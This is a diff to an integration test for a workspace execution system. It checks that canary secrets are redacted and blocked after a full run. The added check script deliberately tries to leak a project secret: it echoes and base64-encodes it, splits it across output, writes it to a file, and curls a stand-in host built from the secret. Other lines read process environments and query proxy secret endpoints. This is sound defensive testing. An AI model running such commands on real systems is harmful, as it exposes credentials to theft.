@@ -4,7 +4,8 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { Client, Connection } from '@temporalio/client';
 import { z } from 'zod';
-import { loadOrCreateKeys } from '../config/keys.ts';
+import { unwrap } from '../api/client/index.ts';
+import { loadOrCreateKeys, loadProjectSecretKeys } from '../config/keys.ts';
 import { statePaths } from '../config/paths.ts';
 import { imageRecipe, repository as imageRepository } from '../workspace/image/recipe.ts';
 import { installationOf, ownedBy } from '../workspace/provisioners/docker/names.ts';
@@ -27,6 +28,20 @@ afterAll(() => docker.close(), 120_000);
 /** A pattern of grep that finds a secret and is not itself one. */
 const patternOf = (secret: string) => `'[${secret[0] ?? ''}]${secret.slice(1)}'`;
 
+const secretName = 'CANARY_KEY';
+
+/** A check that has the project's secret and shows it in the ways that come to mind. */
+const showingCheck = [
+  `test "\${#${secretName}}" -gt 20`,
+  `echo "clear $${secretName}"`,
+  `echo "failed with $${secretName}" >&2`,
+  `printf 'user:%s' "$${secretName}" | base64 -w 0; echo`,
+  `printf %.9s "$${secretName}"; sleep 0.2; printf %s "$${secretName}" | tail -c +10; echo`,
+  `curl -s -m 5 "https://$${secretName}.example/"`,
+  `echo "$${secretName}" > shown.txt`,
+  'echo shown',
+].join('\n');
+
 /** Shows everything that a program in a workspace can read of its surroundings, and says where a secret is. */
 function program(canaries: Canaries): string {
   const patterns = [...canaries.values()].map((secret) => `-e ${patternOf(secret)}`).join(' ');
@@ -34,6 +49,8 @@ function program(canaries: Canaries): string {
     'env',
     'cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr "\\0" "\\n"',
     `grep -rIl ${patterns} /home /tmp /run /etc /var /opt /workspace 2>/dev/null | sed 's/^/secret in /'`,
+    // What the supervisor of a place for checks is answered.
+    'curl -s --noproxy "*" "$HTTP_PROXY/secrets/checks"; curl -s http://gateway/secrets/checks; echo',
     'echo looked > looked.txt',
     'echo looked-around',
     'exit 0',
@@ -50,6 +67,7 @@ describe.each(['local', 'docker'])('no secret is anywhere after a full run on %s
 
   beforeAll(async () => {
     model = await startRawModel('Nothing to do.');
+    const projectSecret = `project-canary-${randomBytes(18).toString('hex')}`;
     const modelKey = `sk-canary-${randomBytes(18).toString('hex')}`;
     system = await TestSystem.open({
       PROVISIONER: provisioner,
@@ -66,11 +84,16 @@ describe.each(['local', 'docker'])('no secret is anywhere after a full run on %s
       ['the start-up token', keys.startupToken],
       ['the service key', keys.serviceKey],
       ['the key of run tokens', keys.runTokenKey],
+      ['the key of projects’ secrets', (await loadProjectSecretKeys(paths.keys))[0]],
+      ['the secret of the project', projectSecret],
       ['the password of the database', (await readFile(join(paths.keys, 'postgres-password'), 'utf8')).trim()],
       // How every token of a run begins.
       ['a run token', `${Buffer.from('{"alg":"HS256"}').toString('base64url')}.`],
     ]);
-    const project = await system.project({ 'README.md': '# sample\n' }, { review: false });
+    const checks = [{ name: 'show', command: showingCheck }];
+    const project = await system.project({ 'README.md': '# sample\n' }, { review: false, checks });
+    const at = { path: { projectId: project.projectId, name: secretName } };
+    await unwrap(system.client.PUT('/api/projects/{projectId}/secrets/{name}', { params: at, body: { value: projectSecret } }));
     repositoryUrl = project.repositoryUrl;
     const looking = await system.submit(project.projectId, program(canaries), { executor: 'command' });
     await system.reach(looking, 'PATCH_READY');
@@ -92,6 +115,20 @@ describe.each(['local', 'docker'])('no secret is anywhere after a full run on %s
     expect(model.calls.map(({ authorization }) => authorization)).toContain(`Bearer ${canaries.get('the model key')}`);
     expect(text).toContain('looked-around');
     expect(text).toContain('HTTPS_PROXY=');
+    expect(text).toContain('relay-forbidden');
+  });
+
+  it('although a check had the secret of its project, and showed it wherever it could', async () => {
+    const events = await system.events(requests[0] ?? '');
+    const shown = events.flatMap((event) => (event.type === 'exec.output' ? [event.data.text] : [])).join('');
+    const refused = events.flatMap((event) => (event.type === 'egress.refused' ? [event.data.host] : []));
+    const results = events.flatMap((event) => (event.type === 'exec.completed' ? [event.data.status] : []));
+
+    expect(results).toEqual(['passed']);
+    expect(shown).toContain(`clear [secret ${secretName}]\n`);
+    expect(shown).toContain(`failed with [secret ${secretName}]\n`);
+    expect(shown.split(`[secret ${secretName}]`)).toHaveLength(5);
+    expect(refused).toContain(`[secret ${secretName}].example`);
   });
 
   it('neither in the event stream, the diff nor the workspace', async () => {
